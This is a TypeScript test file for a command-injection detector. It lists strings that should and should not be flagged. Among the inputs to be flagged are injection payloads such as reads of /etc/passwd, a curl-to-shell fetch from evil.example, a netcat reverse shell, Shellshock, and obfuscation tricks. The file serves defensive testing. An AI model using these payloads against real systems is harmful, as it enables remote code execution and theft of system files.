import { describe, expect, it } from 'vitest';
import { createDetector } from '../create-detector.ts';

const detector = createDetector({ classes: { cmdi: true } });
const cmdiScore = (value: string): number =>
  detector.inspectValue(value, 'query.host').find((finding) => finding.class === 'cmdi')?.score ?? 0;

describe('cmdi detector', () => {
  it.each([
    ['127.0.0.1; cat /etc/passwd', 'command after ;'],
    ['x | whoami', 'pipe'],
    ['x && curl http://evil.example/a.sh | sh', 'and-list'],
    ['`id`', 'backtick substitution'],
    ['$(uname -a)', 'dollar substitution'],
    ['a%0Aid', 'encoded newline'],
    ["c'a't /etc/passwd", 'quotes inside the command word'],
    ['c\\at /etc/passwd', 'backslash inside the command word'],
    ['w^h^o^a^m^i & dir', 'cmd.exe carets'],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell expansion, not a template
    ['${IFS}cat${IFS}/etc/passwd', '$IFS as a space'],
    [';/usr/bin/id', 'command by its path'],
    ['{cat,/etc/passwd}', 'brace expansion'],
    ['; /???/??t /???/p??s??', 'wildcards for the command'],
    ["$(printf 'id')", 'any command in $( )'],
    ['| cmd /c whoami', 'Windows shell'],
    ['&& type C:\\boot.ini', 'Windows type'],
    ['; nc -e /bin/sh 10.0.0.1 4444', 'reverse shell'],
    ['() { :;}; /bin/bash -c "id"', 'Shellshock'],
    ['<!--#exec cmd="/bin/cat /etc/passwd"-->', 'server-side include'],
    ["system('cat /etc/passwd');", 'PHP system call'],
    ['{{7*7}}', 'template expression'],
    ['{% for c in [1,2,3] %}{{c}}{% endfor %}', 'template statement'],
    ['ls -la /tmp', 'a command line as the whole value'],
    ['whoami', 'a recon command alone'],
  ])('flags %j (%s)', (value) => {
    expect(cmdiScore(value)).toBeGreaterThanOrEqual(50);
  });

  it.each([
    'Tom & Jerry',
    'sleep 8 hours a night',
    "rm -rf is dangerous, don't run it",
    'cat /proc? no idea',
    'rock; paper; scissors',
    'a | b',
    'Salt & Pepper',
    'I use Java & Python',
    'cat food for kittens',
    'wget vs curl',
    'ping pong table dimensions',
    'how to kill a process in linux',
    'To list hidden files, try ls -la in your terminal.',
    'Use `git commit -m "fix typo"` to save your changes.',
    'The `ls` command lists files',
    'Run npm install --save-dev typescript and then npx tsc --init.',
    'PATH=/usr/local/bin:$PATH is set in my .bashrc',
    'Sleep well; see you tomorrow.',
    'Where is the union station?',
    'Type "yes" to confirm',
    'for (let i = 0; i < n; i++) is the classic loop',
    'Use {{ user.name }} in the Jinja template.',
    'id,name,price\n1,Widget,9.99',
    'sort=id',
  ])('does not flag %j', (value) => {
    expect(cmdiScore(value)).toBeLessThan(50);
  });
});

describe('cmdi in the URL path', () => {
  const inPath = (path: string) =>
    detector
      .inspect({ method: 'GET', path, query: {}, headers: {} })
      .filter((finding) => finding.class === 'cmdi');

  it('takes path segments for resources, not programs', () => {
    for (const path of [
      '/docs/ping',
      '/no/such/route',
      '/api/v1/route',
      '/health/id',
      '/bin/ls',
      '/api/cat/items',
    ]) {
      expect(inPath(path), path).toEqual([]);
    }
  });

  it('still finds shell syntax in a path', () => {
    for (const path of ['/api/x;id', '/a/`id`', '/a/$(whoami)', '/cgi-bin/a|cat /etc/passwd']) {
      expect(inPath(path), path).toHaveLength(1);
    }
  });
});
